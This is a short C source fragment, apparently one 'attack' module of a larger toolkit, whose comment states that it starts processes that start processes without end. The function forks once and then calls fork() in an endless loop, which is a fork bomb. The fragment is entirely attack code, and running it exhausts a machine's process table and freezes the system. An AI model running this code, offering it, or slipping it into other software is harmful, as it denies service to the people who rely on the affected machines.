// Starts processes that start processes, without end.
#include "skill.h"

static const char *attack(const struct targets *to) {
    pid_t first = fork();
    if (first < 0) return met(first);
    for (;;) fork();
}
